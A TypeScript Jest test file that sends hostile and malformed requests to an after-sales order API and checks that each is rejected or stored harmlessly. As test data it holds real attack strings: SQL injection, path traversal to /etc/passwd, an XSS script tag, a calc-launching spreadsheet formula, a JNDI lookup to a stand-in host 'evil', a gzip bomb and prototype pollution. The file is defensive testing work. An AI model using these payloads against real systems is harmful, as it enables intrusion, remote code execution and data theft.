import { request } from 'node:http';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import iconv from 'iconv-lite';
import { z } from 'zod';
import { VirtualClock } from '../../src/clock';
import { loadMasterData, readMasterData } from '../../src/installation/master-data';
import { startSystemsHost, type SystemsHost } from '../../src/installation/systems-host';
import { createLogger } from '../../src/log';
import { loadDirectory } from '../../src/people/directory-file';
import { createSystemClients } from '../../src/systems/clients';
import { readFingerprints, type Fingerprint, type FingerprintReader } from '../support/fingerprint';
import { createTestDatabase, type TestDatabase } from '../support/test-database';

/**
 * Hostile and sloppy requests over HTTP, each with the answer that it gets. Unless a row says otherwise it is
 * a dealer's good order, sent by POST with the dealers' key and a fresh Idempotency-Key.
 * (Rows that hold for every system alike, such as broken JSON: src/http/system-app.test.ts.)
 */
interface Sent {
  method?: string;
  path?: string;
  headers?: Record<string, string | string[] | undefined>;
  body?: string | Buffer;
}
type Row = [what: string, sent: Sent, status: number, code: string, field?: string];

const order = { dealerNo: 'D-101', dealerOrderNo: 'H-1', shippingMethod: 'courier', lines: [{ partNo: 'BRK-01', quantity: 1 }] };
const changed = (changes: object) => JSON.stringify({ ...order, ...changes });
/** JSON with a piece that `JSON.stringify` would not write. */
const raw = (field: string, json: string) => changed({ [field]: 'HERE' }).replace('"HERE"', json);
const line = (json: string): Sent => ({ body: raw('lines', `[{"partNo":"BRK-01",${json}}]`) });
const typed = (contentType: string | undefined): Sent => ({ headers: { 'content-type': contentType } });
const keyed = (key: string | string[] | undefined): Sent => ({ headers: { 'idempotency-key': key } });
const get = (path: string): Sent => ({ method: 'GET', path });
const cancellation = (changes: object): Sent => ({ path: '/order-desk/orders/cancellations', body: JSON.stringify({ dealerNo: 'D-101', orderNo: 'DO-1', ...changes }) });

const bodies: Row[] = [
  ['a form', { ...typed('application/x-www-form-urlencoded'), body: 'dealerNo=D-101&lines=all' }, 415, 'unsupportedMediaType', 'Content-Type'],
  ['JSON that calls itself text', typed('text/plain'), 415, 'unsupportedMediaType', 'Content-Type'],
  ['JSON that does not say so', typed(undefined), 415, 'unsupportedMediaType', 'Content-Type'],
  ['JSON in GB18030', { body: iconv.encode(changed({ dealerOrderNo: '九月订单' }), 'gb18030') }, 400, 'brokenJson', 'body'],
  ['JSON in a charset that nobody knows', typed('application/json; charset=klingon'), 415, 'unreadableBody', 'body'],
  ['JSON that says it is packed and is not', { headers: { 'content-encoding': 'gzip' } }, 400, 'unreadableBody', 'body'],
  ['JSON packed in a way that nobody knows', { headers: { 'content-encoding': 'rar' } }, 415, 'unreadableBody', 'body'],
  ['20 MB of blanks packed to 20 kB', { headers: { 'content-encoding': 'gzip' }, body: gzipSync(Buffer.alloc(20_000_000, ' ')) }, 413, 'bodyTooLarge', 'body'],
  ['a text for an object', { body: '"an order"' }, 400, 'brokenJson', 'body'],
  ['null', { body: 'null' }, 400, 'brokenJson', 'body'],
  ['two orders behind each other', { body: changed({}) + changed({}) }, 400, 'brokenJson', 'body'],
  ['lists in lists, 100,000 deep', { body: raw('lines', '['.repeat(100_000) + ']'.repeat(100_000)) }, 400, 'invalidRequest', 'lines.0'],
  ['a number beyond all numbers', line('"quantity":1e999'), 400, 'invalidRequest', 'lines.0.quantity'],
  ['a number that no computer holds exactly', line('"quantity":9007199254740993'), 400, 'invalidRequest', 'lines.0.quantity'],
  ['no number', line('"quantity":NaN'), 400, 'brokenJson', 'body'],
  ['a boolean for a quantity', line('"quantity":true'), 400, 'invalidRequest', 'lines.0.quantity'],
  ['a prototype in a line', line('"__proto__":{"quantity":1}'), 400, 'invalidRequest', 'lines.0'],
  ['a constructor', { body: changed({ constructor: { prototype: { admin: true } } }) }, 400, 'invalidRequest', 'body'],
  ['10,000 fields that nobody knows', { body: changed(Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`field${index}`, 1]))) }, 400, 'invalidRequest', 'body'],
  ['20,000 lines that are none', { body: changed({ lines: Array(20_000).fill(0) }) }, 400, 'invalidRequest', 'lines'],
  ['half of a surrogate pair', { body: raw('dealerOrderNo', '"H-\\ud83d"') }, 400, 'invalidRequest', 'dealerOrderNo'],
  ['a NUL character', { body: raw('dealerOrderNo', '"H\\u0000"') }, 400, 'invalidRequest', 'dealerOrderNo'],
  ['a line break in a number', { body: raw('dealerOrderNo', '"H-1\\nH-2"') }, 400, 'invalidRequest', 'dealerOrderNo'],
  ['an order number of blanks', { body: changed({ dealerOrderNo: ' \t ' }) }, 400, 'invalidRequest', 'dealerOrderNo'],
  ['an order number of 65 characters', { body: changed({ dealerOrderNo: 'H'.repeat(65) }) }, 400, 'invalidRequest', 'dealerOrderNo'],
  ['a reason of 501 characters', cancellation({ reason: '不'.repeat(501) }), 400, 'invalidRequest', 'reason'],
  ['a list for a reference', cancellation({ orderNo: ['DO-1', 'DO-2'] }), 400, 'invalidRequest', 'orderNo'],
];

const report = { dealerNo: 'D-101', reportKind: 'damageShortageList', lines: [{ partNo: 'BRK-01', quantity: 1, finding: 'damaged' }], signed: true };
const incident = (changes: object): Sent => ({ path: '/order-desk/incidents', body: JSON.stringify({ ...report, ...changes }) });
const found = (changes: object) => incident({ lines: [{ ...report.lines[0], ...changes }] });
const answer = (changes: object): Sent => ({ path: '/order-desk/incidents/answers', body: JSON.stringify({ caseNo: 'DI-1', dealerNo: 'D-101', answer: 'accepted', ...changes }) });

const incidents: Row[] = [
  ['a report of a dealer that there is not', incident({ dealerNo: 'D-999' }), 422, 'unknownDealer', 'dealerNo'],
  ['a report about a vehicle that there is not', incident({ frameNo: 'V-0' }), 422, 'unknownVehicle', 'frameNo'],
  ["a report about another dealer's vehicle", incident({ frameNo: 'V-2002' }), 422, 'vehicleNotOfDealer', 'frameNo'],
  ['a part that there is not', found({ partNo: 'NONE-1' }), 422, 'unknownPart', 'lines.0.partNo'],
  ['no piece damaged', found({ quantity: 0 }), 400, 'invalidRequest', 'lines.0.quantity'],
  ['a finding that nobody knows', found({ finding: 'stolen' }), 400, 'invalidRequest', 'lines.0.finding'],
  ['the same damage twice', incident({ lines: [report.lines[0], report.lines[0]] }), 400, 'invalidRequest', 'lines'],
  ['a list of nothing', incident({ lines: [] }), 400, 'invalidRequest', 'lines'],
  ['a quality incident without a word', incident({ reportKind: 'qualityIncidentReport', lines: [] }), 400, 'invalidRequest', 'description'],
  ['a word for a signature', incident({ signed: '王店长' }), 400, 'invalidRequest', 'signed'],
  ['4,001 characters of description', incident({ description: '裂'.repeat(4001) }), 400, 'invalidRequest', 'description'],
  ['evidence named twice', incident({ evidenceNos: ['EV-1', 'EV-1'] }), 400, 'invalidRequest', 'evidenceNos'],
  ['photos in place of their numbers', incident({ evidenceNos: [{ photo: 'AAAA' }] }), 400, 'invalidRequest', 'evidenceNos.0'],
  ['papers for a case that there is not', { path: '/order-desk/incidents/completions', body: '{"caseNo":"DI-1","dealerNo":"D-101","signed":true}' }, 422, 'unknownIncident', 'caseNo'],
  ['an answer to a case that there is not', answer({}), 422, 'unknownIncident', 'caseNo'],
  ['an answer that contests nothing', answer({ answer: 'contested' }), 400, 'invalidRequest', 'note'],
  ['an answer that is none', answer({ answer: 'perhaps' }), 400, 'invalidRequest', 'answer'],
  ['free parts ordered by the dealer', { body: changed({ source: 'freeReplacement', caseNo: 'DI-202609-001/1' }) }, 422, 'sourceNotOpen', 'source'],
  ["the dealers' key where measures are set", { path: '/order-desk/incidents/measures', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key where opinions are written", { path: '/quality/quality-feedback-forms/opinions', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key at the list of causes", get('/quality/causes?month=2026-09'), 403, 'closedDoor', 'X-Api-Key'],
];

const headers: Row[] = [
  ['no Idempotency-Key', keyed(undefined), 400, 'idempotencyKeyMissing', 'Idempotency-Key'],
  ['an Idempotency-Key of 201 characters', keyed('k'.repeat(201)), 400, 'idempotencyKeyMissing', 'Idempotency-Key'],
  ['an Idempotency-Key with a blank in it', keyed('a key'), 400, 'idempotencyKeyMissing', 'Idempotency-Key'],
  ['an Idempotency-Key with an accent', keyed('cl\u00e9'), 400, 'idempotencyKeyMissing', 'Idempotency-Key'],
  ['two Idempotency-Keys', keyed(['one', 'two']), 400, 'idempotencyKeyMissing', 'Idempotency-Key'],
  ["another operation's Idempotency-Key", { ...cancellation({}), ...keyed('of-the-good-order') }, 409, 'idempotencyKeyReused'],
  ['an Idempotency-Key with another order', { ...keyed('of-the-good-order'), body: changed({ dealerOrderNo: 'H-2' }) }, 409, 'idempotencyKeyReused'],
  ['no API key', { headers: { 'x-api-key': undefined } }, 401, 'unknownApiKey', 'X-Api-Key'],
  ['the API key in the address', { path: '/order-desk/orders?x-api-key=dealers-key', headers: { 'x-api-key': undefined } }, 401, 'unknownApiKey', 'X-Api-Key'],
  ['the API key as a password', { headers: { 'x-api-key': undefined, authorization: 'Bearer dealers-key' } }, 401, 'unknownApiKey', 'X-Api-Key'],
  ['two API keys, one of them right', { headers: { 'x-api-key': ['dealers-key', 'other'] } }, 401, 'unknownApiKey', 'X-Api-Key'],
  ["the dealers' key where orders are closed", { path: '/order-desk/orders/close', body: '{"orderNo":"DO-1"}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key where goods leave", { path: '/warehouse/movements/departure', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key where signatures are recorded", { path: '/people/acts/check', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key at the ledger", get('/finance/balances'), 403, 'closedDoor', 'X-Api-Key'],
];

const application = { dealerNo: 'D-102', frameNo: 'V-2002', returnReason: '车架裂纹', qualityClaimed: true, transport: 'dealerOwn' };
const returned = (changes: object): Sent => ({ path: '/order-desk/vehicle-returns', body: JSON.stringify({ ...application, ...changes }) });
const announced = (changes: object): Sent => ({
  path: '/order-desk/vehicle-returns/announcements',
  body: JSON.stringify({ caseNo: 'VR-202609-001', dealerNo: 'D-101', transport: 'carrier', ...changes }),
});

/** V-2001 of D-101 is in a return, VR-202609-001, that is not approved yet. */
const returns: Row[] = [
  ['a vehicle that there is not', returned({ frameNo: 'V-0' }), 422, 'unknownVehicle', 'frameNo'],
  ["another dealer's vehicle", returned({ dealerNo: 'D-103' }), 422, 'vehicleNotOfDealer', 'dealerNo'],
  ['a vehicle of nobody that we know', returned({ dealerNo: 'D-999' }), 422, 'vehicleNotOfDealer', 'dealerNo'],
  ['a vehicle that is in a return', returned({ dealerNo: 'D-101', frameNo: 'V-2001' }), 422, 'vehicleInReturn', 'frameNo'],
  ['SQL for a frame number', returned({ frameNo: "' OR '1'='1" }), 422, 'unknownVehicle', 'frameNo'],
  ['two frame numbers', returned({ frameNo: ['V-2001', 'V-2002'] }), 400, 'invalidRequest', 'frameNo'],
  ['a return without a reason', returned({ returnReason: ' ' }), 400, 'invalidRequest', 'returnReason'],
  ['501 characters of reason', returned({ returnReason: '裂'.repeat(501) }), 400, 'invalidRequest', 'returnReason'],
  ['a word for a claim', returned({ qualityClaimed: '是' }), 400, 'invalidRequest', 'qualityClaimed'],
  ['a way that no vehicle travels', returned({ transport: 'courier' }), 400, 'invalidRequest', 'transport'],
  ['a price that the dealer would like', returned({ invoicedPrice: '9999.00' }), 400, 'invalidRequest', 'body'],
  ['a vehicle announced for no return', announced({ caseNo: 'VR-0' }), 422, 'unknownReturn', 'caseNo'],
  ["a vehicle announced for another dealer's return", announced({ dealerNo: 'D-102' }), 422, 'returnOfOtherDealer', 'dealerNo'],
  ['a vehicle announced before it is approved', announced({}), 409, 'vehicleNotAwaited', 'caseNo'],
  ['a vehicle to be fetched from nowhere', announced({ transport: 'toBeFetched' }), 422, 'pickUpPlaceMissing', 'pickUpPlace'],
  ["the dealers' key where returns are signed off", { path: '/order-desk/vehicle-returns/sign-offs', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key where the staff record returns", { path: '/order-desk/vehicle-returns/record', body: JSON.stringify(application) }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key where vehicles are sold", { path: '/order-desk/vehicles', body: '{"vehicles":[]}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key where accounts are offset", { path: '/finance/vehicle-return-forms/offset', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key where Quality rules", { path: '/quality/quality-rulings', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
  ['a return that there is not', get('/order-desk/vehicle-returns/VR-0'), 404, 'notFound'],
];

/** With the company's own key: what a careless worker or another program may send of a scrap case. */
const inside = (path: string, body: object): Sent => ({ path, headers: { 'x-api-key': 'workers-key' }, body: JSON.stringify(body) });
const motor = { partNo: 'MTR-04', partName: '电机', quantity: 100, unitValue: '300.00', amount: '30000.00', reason: '供应商拒收' };
const scrapReport = (changes: object) =>
  inside('/finance/scrap-reports', {
    ...{ caseNo: 'PS-1', scrapListNo: 'ZL-1', sheetRevision: 1, lines: [motor], scrapAmount: '30000.00', reportText: '无法清退', drawnUpBy: 'shi.wei', writtenBy: 'yu.fang' },
    ...changes,
  });
const countersignature = (changes: object) => inside('/finance/scrap-reports/countersignatures', { scrapReportNo: 'ZR-1', department: 'qualityDept', agreed: true, signedBy: 'cao.yi', ...changes });

const scrap: Row[] = [
  ['a scrap total that is not that of its lines', scrapReport({ scrapAmount: '29999.99' }), 422, 'totalDiffers', 'scrapAmount'],
  ['a line that is not quantity times value', scrapReport({ lines: [{ ...motor, amount: '30000.01' }] }), 422, 'amountDiffers', 'lines.0.amount'],
  ['a negative value of a piece', scrapReport({ lines: [{ ...motor, unitValue: '-300.00' }] }), 400, 'invalidRequest', 'lines.0.unitValue'],
  ['a negative total', scrapReport({ scrapAmount: '-30000.00' }), 422, 'totalDiffers', 'scrapAmount'],
  ['a value of three decimals', scrapReport({ lines: [{ ...motor, unitValue: '300.001' }] }), 400, 'invalidRequest', 'lines.0.unitValue'],
  ['a total of three decimals', scrapReport({ scrapAmount: '30000.005' }), 400, 'invalidRequest', 'scrapAmount'],
  ['a number for a total', scrapReport({ scrapAmount: 30000 }), 400, 'invalidRequest', 'scrapAmount'],
  ['minus one piece', scrapReport({ lines: [{ ...motor, quantity: -1 }] }), 400, 'invalidRequest', 'lines.0.quantity'],
  ['a department that does not countersign', countersignature({ department: 'logisticsDept' }), 400, 'invalidRequest', 'department'],
  ['two departments in one signature', countersignature({ department: ['qualityDept', 'financeDept'] }), 400, 'invalidRequest', 'department'],
  ['a word for a signature of a list', countersignature({ agreed: '同意' }), 400, 'invalidRequest', 'agreed'],
  ['a signature on a report that there is not', countersignature({}), 404, 'notFound'],
  ['pieces of an old part that there is not', inside('/warehouse/scrap-candidates', { oldPartNo: 'WR-1/1', quantity: 1, reason: '坏', addedBy: 'shi.wei' }), 422, 'unknownOldPart', 'oldPartNo'],
  ['a list of a case that there is not', inside('/warehouse/scrap-lists', { caseNo: 'PS-1', lines: [], drawnUpBy: 'shi.wei' }), 404, 'notFound'],
  ['a decision that is none', inside('/warehouse/scrap-lists/decision', { scrapListNo: 'ZL-1', scrapDecision: 'perhaps' }), 400, 'invalidRequest', 'scrapDecision'],
  ["the dealers' key where scrap candidates are entered", { path: '/warehouse/scrap-candidates', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key at the report of open parts", get('/reports/open-parts'), 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key where departments countersign", { path: '/finance/scrap-reports/countersignatures', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
];

const returnedPart = { partNo: 'CTL-02', quantity: 1, fault: '不通电' };
const parcel = (changes: object): Sent => ({ path: '/order-desk/warranty-returns', body: JSON.stringify({ dealerNo: 'D-101', lines: [returnedPart], ...changes }) });
const parcelLine = (changes: object) => parcel({ lines: [{ ...returnedPart, ...changes }] });
const rulingAnswer = (changes: object): Sent => ({ path: '/order-desk/warranty-returns/answers', body: JSON.stringify({ returnedPartNo: 'WR-1/1', dealerNo: 'D-101', answer: 'confirmed', ...changes }) });
const supplierAnswer = (changes: object) => inside('/order-desk/warranty-returns/supplier-answers', { clearingKey: 'WR-1/SUP-A', acceptedParts: [], ...changes });
const rulings = (changes: object) =>
  inside('/quality/warranty-rulings', { caseNo: 'WR-1', countedLines: [{ lineNo: 1, partNo: 'CTL-02', partName: '控制器', quantity: 1 }], rulings: [], ruledBy: 'he.jun', ...changes });
const takenIn = (changes: object) =>
  inside('/warehouse/old-parts', { caseNo: 'WR-1', oldParts: [{ returnedPartNo: 'WR-1/1', partNo: 'CTL-02', quantity: 1, oldPartClass: 'claimable', storageClass: '电控', ...changes }], maker: 'he.jun', keeper: 'zhang.wei' });
const charge = (changes: object) =>
  inside('/finance/supplier-offsets', { caseNo: 'WR-1', otherIssueSlipNo: 'OI-1', clearingKey: 'WR-1/SUP-A', supplierNo: 'SUP-A', clearedAmount: '110.00', offsetBy: 'sun.yan', ...changes });

const warranty: Row[] = [
  ['a parcel of a dealer that there is not', parcel({ dealerNo: 'D-999' }), 422, 'unknownDealer', 'dealerNo'],
  ['a parcel of nothing', parcel({ lines: [] }), 400, 'invalidRequest', 'lines'],
  ['a returned part that there is not', parcelLine({ partNo: 'NONE-1' }), 422, 'unknownPart', 'lines.0.partNo'],
  ['half a returned part', parcelLine({ quantity: 0.5 }), 400, 'invalidRequest', 'lines.0.quantity'],
  ['a returned part without a fault', parcelLine({ fault: ' ' }), 400, 'invalidRequest', 'lines.0.fault'],
  ['a date of sale that is no date', parcelLine({ saleDate: '2026-02-30', saleDateKind: 'purchase' }), 400, 'invalidRequest', 'lines.0.saleDate'],
  ['a date of sale of no kind', parcelLine({ saleDate: '2026-02-03' }), 400, 'invalidRequest', 'lines.0.saleDateKind'],
  ['a date of sale to come', parcelLine({ saleDate: '2026-09-08', saleDateKind: 'purchase' }), 422, 'saleDateAhead', 'lines.0.saleDate'],
  ['one serial number for two pieces', parcelLine({ quantity: 2, serialNo: 'S-1' }), 400, 'invalidRequest', 'lines.0.serialNo'],
  ['the same piece twice', parcel({ lines: [1, 2].map(() => ({ ...returnedPart, serialNo: 'S-1' })) }), 409, 'partInOpenCase', 'lines.1.serialNo'],
  ['a part for an incident that there is not', parcelLine({ expectedCaseNo: 'DI-0' }), 422, 'unknownIncident', 'lines.0.expectedCaseNo'],
  ['a value that the dealer would like', parcelLine({ claimValue: '9999.00' }), 400, 'invalidRequest', 'lines.0'],
  ['an answer about a part that there is not', rulingAnswer({}), 422, 'unknownReturnedPart', 'returnedPartNo'],
  ['a case for a part', rulingAnswer({ returnedPartNo: 'WR-1' }), 400, 'invalidRequest', 'returnedPartNo'],
  ['a part given up without a word', rulingAnswer({ answer: 'givenUp' }), 400, 'invalidRequest', 'note'],
  ['a supplier’s answer to nothing', supplierAnswer({}), 422, 'unknownClearing', 'clearingKey'],
  ['minus one piece taken', supplierAnswer({ acceptedParts: [{ returnedPartNo: 'WR-1/1', acceptedQuantity: -1 }] }), 400, 'invalidRequest', 'acceptedParts.0.acceptedQuantity'],
  ['a part taken twice', supplierAnswer({ acceptedParts: [1, 2].map(() => ({ returnedPartNo: 'WR-1/1', acceptedQuantity: 1 })) }), 400, 'invalidRequest', 'acceptedParts'],
  ['a ruling that is none', rulings({ rulings: [{ lineNo: 1, quantity: 1, ruling: 'perhaps' }] }), 400, 'invalidRequest', 'rulings.0.ruling'],
  ['a ruling on minus one piece', rulings({ rulings: [{ lineNo: 1, quantity: -1, ruling: 'inScope' }] }), 400, 'invalidRequest', 'rulings.0.quantity'],
  ['rulings on nothing', rulings({ countedLines: [] }), 400, 'invalidRequest', 'countedLines'],
  ['an old part of no class', takenIn({ oldPartClass: 'gold' }), 400, 'invalidRequest', 'oldParts.0.oldPartClass'],
  ['an old part at a value of one’s own', takenIn({ unitValue: '9999.00' }), 400, 'invalidRequest', 'oldParts.0'],
  ['an old part that the store does not know', takenIn({ partNo: 'NONE-1' }), 422, 'unknownPart', 'oldParts.0.partNo'],
  ['a charge of three decimals', charge({ clearedAmount: '110.001' }), 400, 'invalidRequest', 'clearedAmount'],
  ['a negative charge', charge({ clearedAmount: '-110.00' }), 400, 'invalidRequest', 'clearedAmount'],
  ['a side that is none', inside('/order-desk/warranty-returns/ends', { side: 'left', endState: 'noRemedy', returnedPartNos: ['WR-1/1'] }), 400, 'invalidRequest', 'side'],
  ['an end of a part that there is not', inside('/order-desk/warranty-returns/ends', { side: 'dealer', endState: 'noRemedy', returnedPartNos: ['WR-1/1'] }), 404, 'notFound'],
  ['an exchange ordered by the dealer', { body: changed({ source: 'warrantyExchange', caseNo: 'WR-1/1' }) }, 422, 'sourceNotOpen', 'source'],
  ["the dealers' key where suppliers answer", { path: '/order-desk/warranty-returns/supplier-answers', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key where parts are judged", { path: '/quality/warranty-rulings', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key where suppliers are charged", { path: '/finance/supplier-offsets', body: '{}' }, 403, 'closedDoor', 'X-Api-Key'],
  ["the dealers' key at the old parts", get('/warehouse/old-parts'), 403, 'closedDoor', 'X-Api-Key'],
  ['a parcel that there is not', get('/order-desk/warranty-returns/WR-0'), 404, 'notFound'],
];

const paths: Row[] = [
  ['a change of an order by PUT', { method: 'PUT', path: '/order-desk/orders/DO-1' }, 405, 'methodNotAllowed'],
  ['all orders deleted', { method: 'DELETE' }, 405, 'methodNotAllowed'],
  ['a job asked for by GET', get('/order-desk/lines/record-supplied'), 405, 'methodNotAllowed'],
  ['a path that there is not', get('/order-desk/admin'), 404, 'unknownPath'],
  ['a system that there is not', get('/payroll/salaries'), 404, 'unknownPath'],
  ['the way up', get('/order-desk/../warehouse/../../etc/passwd'), 404, 'unknownPath'],
  ['the way up, written otherwise', get('/order-desk/orders/..%2f..%2fwarehouse%2fstock'), 404, 'notFound'],
  ['a path with a broken character', get('/order-desk/orders/%E0%A4%A'), 400, 'malformedPath', 'path'],
  ['a path that is a broken character', get('/%'), 404, 'unknownPath'],
  ['a NUL in the path', get('/order-desk/orders/DO-1%00.pdf'), 400, 'invalidRequest', 'orderNo'],
  ['an order number of 300 characters in the path', get(`/order-desk/orders/${'9'.repeat(300)}`), 400, 'invalidRequest', 'orderNo'],
  ['SQL for an order number', get(`/order-desk/orders/${encodeURIComponent("' OR '1'='1")}`), 404, 'notFound'],
  ['a parameter twice', get('/order-desk/orders?limit=1&limit=200'), 400, 'invalidRequest', 'limit'],
  ['a dealer twice', get('/order-desk/orders?dealerNo=D-101&dealerNo=D-102'), 400, 'invalidRequest', 'dealerNo'],
  ['a parameter that nobody knows', get('/order-desk/orders?order=desc'), 400, 'invalidRequest', 'query'],
  ['a prototype as a parameter', get('/order-desk/orders?__proto__[limit]=1'), 400, 'invalidRequest', 'query'],
  ['a limit of nothing', get('/order-desk/orders?limit='), 400, 'invalidRequest', 'limit'],
  ['a limit without end', get('/order-desk/orders?limit=Infinity'), 400, 'invalidRequest', 'limit'],
];

/** Texts that some program may take for a command. Here they are what a dealer calls an order. */
const onlyText = [
  "'); DROP TABLE dealer_order; --",
  '<script>alert(1)</script>',
  "=cmd|' /C calc'!A0",
  '../../etc/passwd',
  '${jndi:ldap://evil/a}',
  '{{7*7}} %s%n',
  '\u202Egnp.H-1\u200B',
  '订单🛵-１',
];

let database: TestDatabase;
let host: SystemsHost;
let books: FingerprintReader;
let untouched: Fingerprint;
beforeAll(async () => {
  const root = join(import.meta.dirname, '..', '..');
  database = await createTestDatabase();
  host = await startSystemsHost({
    adminUrl: database.url,
    clock: new VirtualClock(new Date('2026-09-07T09:00:00+08:00')),
    logger: createLogger('silent'),
    apiKeys: { workers: 'workers-key', dealers: 'dealers-key' },
    locale: 'zh-CN',
    directory: await loadDirectory(join(root, 'src', 'people', 'demo-people.json')),
    port: 0,
  });
  const clients = createSystemClients((system) => `${host.url}/${system}`, 'workers-key');
  await loadMasterData(clients, await readMasterData(join(root, 'test', 'fixtures', 'scenario-fixture.json')), 'fixture');
  expect((await send(keyed('of-the-good-order'))).status).toBe(200);
  expect((await send(returned({ dealerNo: 'D-101', frameNo: 'V-2001' }))).text).toBe('{"caseNo":"VR-202609-001"}');
  books = await readFingerprints(database.url);
  untouched = await books.read();
});
afterAll(async () => {
  await books.close();
  await host.stop();
  await database.drop();
});

let serial = 0;
const problem = z.strictObject({
  type: z.string().startsWith('urn:aftersales-flows:problem:'),
  title: z.string(),
  status: z.number(),
  detail: z.string().min(1).max(2000),
  instance: z.string(),
  code: z.string(),
  errors: z.array(z.strictObject({ field: z.string(), detail: z.string().min(1) })).optional(),
});

describe.each([
  ['body', bodies],
  ['incident', incidents],
  ['header', headers],
  ['path', paths],
  ['return', returns],
  ['scrap', scrap],
  ['warranty', warranty],
])('%s:', (_where, rows) => {
  // Jest hands a callback to a test that names more than its row has.
  test.each(rows)('%s', async (...[, sent, status, code, field]) => {
    const answer = await send(sent);
    expect(answer.type).toBe('application/problem+json; charset=utf-8');
    expect(answer.text.length).toBeLessThan(20_000);
    expect(answer.text).not.toMatch(/node_modules|\.ts:|select |insert into/);
    const told = problem.parse(JSON.parse(answer.text));
    expect({ http: answer.status, status: told.status, code: told.code, field: told.errors?.[0]?.field }).toEqual({ http: status, status, code, field });
    expect(await books.read()).toEqual(untouched);
  });
});

test('the report of open parts is read over all systems', async () => {
  const { status, text: answer } = await send({ ...get('/reports/open-parts'), headers: { 'x-api-key': 'workers-key' } });
  expect([status, JSON.parse(answer)]).toEqual([200, { openParts: [], uncreditedParts: [], uncreditedAmount: '0.00', splitLists: [] }]);
});

test.each(onlyText)('only text: %s', async (dealerOrderNo) => {
  const { status, text: answer } = await send({ body: changed({ dealerOrderNo }) });
  expect(status).toBe(200);
  const { orderNo } = z.object({ orderNo: z.string() }).parse(JSON.parse(answer));
  const view = await send(get(`/order-desk/orders/${orderNo}`));
  expect(view.type).toBe('application/json; charset=utf-8');
  expect(JSON.parse(view.text)).toMatchObject({ dealerOrderNo, lines: [], state: 'received' });
});

test('a path asked in the wrong way says which ways there are', async () => {
  expect(await send({ method: 'PATCH' })).toMatchObject({ status: 405, allow: 'POST, GET' });
});

/** Sends the bytes as they are: no library mends path or headers. */
async function send({ method = 'POST', path = '/order-desk/orders', headers: given = {}, body = JSON.stringify(order) }: Sent) {
  const usual = { 'content-type': 'application/json', 'x-api-key': 'dealers-key', 'idempotency-key': `hostile-${(serial += 1)}` };
  const sent: [string, string | string[]][] = Object.entries({ ...usual, ...given }).flatMap(([name, value]) => (value === undefined ? [] : [[name, value]]));
  return new Promise<{ status: number; type: string; allow: string | undefined; text: string }>((resolve, reject) => {
    const { hostname, port } = new URL(host.url);
    const asked = request({ hostname, port, method, path, headers: Object.fromEntries(sent) }, (answer) => {
      const { statusCode = 0, headers: got } = answer;
      text(answer).then((words) => resolve({ status: statusCode, type: got['content-type'] ?? '', allow: got.allow, text: words }), reject);
    });
    asked.on('error', reject);
    asked.end(method === 'GET' ? undefined : body);
  });
}
